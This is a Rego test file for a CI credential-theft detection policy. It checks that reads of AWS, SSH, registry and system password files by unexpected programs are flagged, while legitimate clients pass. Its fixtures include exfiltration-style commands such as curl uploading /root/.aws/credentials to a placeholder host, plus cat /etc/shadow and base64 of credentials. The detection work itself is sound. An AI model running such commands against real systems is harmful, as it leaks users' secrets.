package sallyport.policies.credential_theft_test

import data.sallyport.policies.credential_theft

process(arguments) := {
	"executable": sprintf("/usr/bin/%s", [arguments[0]]), "script": "", "arguments": arguments, "executable_sha256": "",
	"executable_in_memory": false, "executable_deleted": false, "working_directory": "/home/runner/work/shop/shop", "uid": 1001, "effective_uid": 1001,
}

touch(arguments, operation, path, rule, category, ancestry) := {
	"behaviour": {"kind": "file", "program": arguments[0], "target": path, "operation": operation, "rule": rule, "category": category},
	"process": process(arguments), "ancestry": [process(a) | some a in ancestry], "job": {"event": "push", "repository": "acme/shop", "action": ""},
	"baseline": {"stable": false, "known": false, "program_known": false, "reopened": "", "runs": 0},
}

known(given) := object.union(given, {"baseline": {"stable": true, "known": true, "program_known": true}})

stable(given) := object.union(given, {"baseline": {"stable": true, "runs": 5}})

aws := "~/.aws/credentials"

test_copies_are_caught if {
	every arguments in [["cat", "/root/.aws/credentials"], ["base64", "-w0", ".aws/credentials"], ["tar", "czf", "/tmp/x", "/home/runner/.aws"], ["curl", "-F", "f=@/root/.aws/credentials", "https://x.example.test"], ["python3", "-c", "open('/root/.aws/credentials').read()"]] {
		count(credential_theft.violation) == 1 with input as touch(arguments, "read", aws, "aws_credentials", "credential", [])
	}
	count(credential_theft.violation) == 1 with input as touch(["cat", "/etc/shadow"], "read", "/etc/shadow", "system_passwords", "credential", [["sudo", "cat"]])
}

test_install_script_is_critical if {
	given := touch(["node", "bundle.js"], "read", "~/.ssh/id_ed{n}", "ssh_keys", "credential", [["npm", "ci"]])
	some violation in credential_theft.violation with input as given
	violation.severity == "critical"
}

test_owners_are_clean if {
	count(credential_theft.violation) == 0 with input as touch(["aws", "s3", "ls"], "read", aws, "aws_credentials", "credential", [])
	count(credential_theft.violation) == 0 with input as touch(["ssh", "-i", "/root/.ssh/id_rsa", "x"], "read", "~/.ssh/id_rsa", "ssh_keys", "credential", [])
	count(credential_theft.violation) == 0 with input as touch(["docker", "push", "x"], "read", "~/.docker/config.json", "registry_credentials", "credential", [])
	count(credential_theft.violation) == 0 with input as touch(["npm", "ci"], "read", "~/.npmrc", "package_registry_credentials", "credential", [])
}

test_program_with_a_client_library_is_clean if {
	count(credential_theft.violation) == 0 with input as touch(["python3", "deploy.py"], "read", aws, "aws_credentials", "credential", [["bash", "-e", "x.sh"]])
	count(credential_theft.violation) == 0 with input as touch(["java", "-jar", "x.jar"], "read", aws, "aws_credentials", "credential", [])
}

test_search_over_a_folder_is_clean if {
	count(credential_theft.violation) == 0 with input as touch(["grep", "-r", "TODO", "."], "read", "~/.npmrc", "package_registry_credentials", "credential", [])
}

test_known_reader_is_clean if {
	count(credential_theft.violation) == 0 with input as known(touch(["cat", "/root/.docker/config.json"], "read", "~/.docker/config.json", "registry_credentials", "credential", []))
}
